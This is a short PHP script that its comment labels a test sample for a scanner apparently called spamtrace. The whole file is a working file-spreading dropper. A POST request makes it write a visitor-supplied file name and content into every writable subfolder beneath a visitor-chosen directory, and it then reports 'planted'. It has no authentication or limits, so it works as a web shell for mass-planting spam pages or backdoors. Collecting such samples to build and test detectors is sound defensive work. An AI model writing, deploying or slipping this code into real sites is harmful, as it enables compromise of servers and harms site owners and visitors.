<?php
// spamtrace test sample: a spreader: the file name and the text the visitor posts written
// into every writable folder below the one it names, by a walker of the script's own
function plant($dir, $name, $text)
{
    if (!is_writable($dir)) {
        return;
    }
    foreach (scandir($dir) as $e) {
        $sub = "$dir/$e";
        if ($e === '.' || $e === '..' || !is_dir($sub)) {
            continue;
        }
        $target = $sub . '/' . $name;
        file_put_contents($target, $text);
        plant($sub, $name, $text);
    }
}
if (!empty($_POST['go'])) {
    plant($_POST['where'], $_POST['file'], $_POST['body']);
    echo 'planted';
}
